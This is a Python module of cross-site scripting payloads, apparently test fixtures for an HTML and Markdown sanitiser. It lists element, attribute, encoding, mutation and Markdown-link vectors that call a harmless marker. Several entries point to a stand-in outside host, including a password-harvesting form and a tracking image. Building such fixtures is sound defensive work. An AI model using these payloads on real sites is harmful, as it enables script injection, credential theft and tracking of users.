"""Forms of markup that would run a script, were it let through.

By the kinds that OWASP's cheat sheet on evading filters tells apart, written anew. Each
calls `hit(name)`: a page where it is called, or could be, has let it through.
"""

RUNS = "hit(1)"

ELEMENTS = {
    "script": "<script>hit(1)</script>",
    "script-in-capitals": "<SCRIPT>hit(1)</SCRIPT>",
    "script-within-script": "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "script-not-ended": "<script>hit(1)",
    "script-with-slash": "<script/x>hit(1)</script>",
    "script-from-elsewhere": "<script src=//ond.exempel/x.js></script>",
    "script-type-module": '<script type="module">hit(1)</script>',
    "extra-brackets": "<<script>hit(1);//<</script>",
    "null-sign": "<scr\x00ipt>hit(1)</scr\x00ipt>",
    "picture": "<img src=x onerror=hit(1)>",
    "picture-without-blanks": "<img/src=x/onerror=hit(1)>",
    "picture-in-quotes": '<img """><script>hit(1)</script>">',
    "picture-by-grave": "<img src=`x` onerror=`hit(1)`>",
    "picture-line-breaks": "<img\nsrc\n=\nx\nonerror\n=\nhit(1)\n>",
    "picture-not-ended": "<img src=x onerror=hit(1) ",
    "picture-by-number": '<img src=x onerror="&#104;&#105;&#116;(1)">',
    "picture-srcset": "<img srcset=x onerror=hit(1)>",
    "picture-lowsrc": '<img dynsrc="javascript:hit(1)" lowsrc="javascript:hit(1)">',
    "input-image": '<input type="image" src=x onerror=hit(1)>',
    "input-focus": "<input autofocus onfocus=hit(1)>",
    "svg": "<svg onload=hit(1)>",
    "svg-slash": "<svg/onload=hit(1)>",
    "svg-script": "<svg><script>hit(1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "svg-link": '<svg><a xlink:href="javascript:hit(1)"><text y=9>x</text></a></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></svg>",
    "math": '<math><a xlink:href="javascript:hit(1)">x</a></math>',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "style-mutation": '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "comment": "<!--><img src=x onerror=hit(1)>-->",
    "comment-of-old": "<!--[if gte IE 4]><script>hit(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>hit(1)</script>]]>",
    "instruction": '<?xml-stylesheet href="javascript:hit(1)"?>',
    "body": "<body onload=hit(1)>",
    "frame": '<iframe src="javascript:hit(1)"></iframe>',
    "frame-srcdoc": '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    "object": '<object data="javascript:hit(1)"></object>',
    "embed": '<embed src="javascript:hit(1)">',
    "link-sheet": '<link rel="stylesheet" href="//ond.exempel/x.css">',
    "style": "<style>@import '//ond.exempel/x.css';</style>",
    "style-attribute": '<p style="background:url(//ond.exempel/x)">x</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:hit(1)">',
    "base": '<base href="//ond.exempel/">',
    "form": '<form action="//ond.exempel/"><input name="password"><button>x',
    "button": '<button formaction="javascript:hit(1)">x</button>',
    "details": "<details open ontoggle=hit(1)>x</details>",
    "video": "<video><source onerror=hit(1)></video>",
    "audio": "<audio src=x onerror=hit(1)></audio>",
    "marquee": "<marquee onstart=hit(1)>x</marquee>",
    "template": "<template><script>hit(1)</script></template>",
    "made-up-element": "<x tabindex=1 autofocus onfocus=hit(1)>x</x>",
    "portal-end-of-page": "</body></html><script>hit(1)</script>",
    "ended-title": "</title><script>hit(1)</script>",
    "ended-field": "</textarea><script>hit(1)</script>",
    "ended-script": "</script><img src=x onerror=hit(1)>",
    "ended-attribute": '"><img src=x onerror=hit(1)>',
    "ended-attribute-single": "'><img src=x onerror=hit(1)>",
    "new-attribute": '" autofocus onfocus=hit(1) x="',
    "new-attribute-single": "' onmouseover=hit(1) x='",
    "seven-bits": "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    "wide-brackets": "＜script＞hit(1)＜/script＞",
    "template-words": "{{ 7|add:'7' }}{% debug %}${7*7}",
}
"""Elements and attributes, as they are typed into a field or come in a letter."""

MARKDOWN = {
    "link": "[x](javascript:hit(1))",
    "link-in-capitals": "[x](JaVaScRiPt:hit(1))",
    "link-with-tab": "[x](java\tscript:hit(1))",
    "link-by-number": "[x](&#106;&#97;vascript:hit(1))",
    "link-by-name": "[x](javascript&colon;hit(1))",
    "link-percent": "[x](javascript%3Ahit(1))",
    "link-leading-sign": "[x](\x01javascript:hit(1))",
    "link-in-angles": "[x](<javascript:hit(1)>)",
    "link-title": '[x](https://a.se "" onmouseover=hit(1) ")',
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "link-vbscript": "[x](vbscript:hit(1))",
    "link-of-strangers": "[x](//ond.exempel)",
    "link-reference": "[x][ref]\n\n[ref]: javascript:hit(1)",
    "link-written-out": "<javascript:hit(1)>",
    "link-words": "[<img src=x onerror=hit(1)>](https://a.se)",
    "picture-md": "![x](javascript:hit(1))",
    "picture-alt": '![x" onerror="hit(1)](/files/1/x.png)',
    "picture-stranger": "![x](https://ond.exempel/spion.png)",
    "code": "`<img src=x onerror=hit(1)>`",
    "fence": '```"><script>hit(1)</script>\n</code></pre><script>hit(1)</script>\n```',
    "table": "| <script>hit(1)</script> |\n|---|\n| <img src=x onerror=hit(1)> |",
    "heading": "# <svg onload=hit(1)>",
    "quotation": "> <img src=x onerror=hit(1)>",
    "mention": '@anna"><img src=x onerror=hit(1)>',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=hit(1)>",
    "language": '[x](lang:en"onmouseover="hit`1`)',
    "figure": '[[se/hoganas/budget"><img src=x onerror=hit(1)>]]',
}
"""What Markdown would make of it."""

EVERY = {**ELEMENTS, **MARKDOWN}


def named(place: str) -> str:
    """A name, title or label that ends whatever it stands in, and tells where."""
    return f"{place}'\"></title></textarea></script><img src=x onerror=hit(1)>"
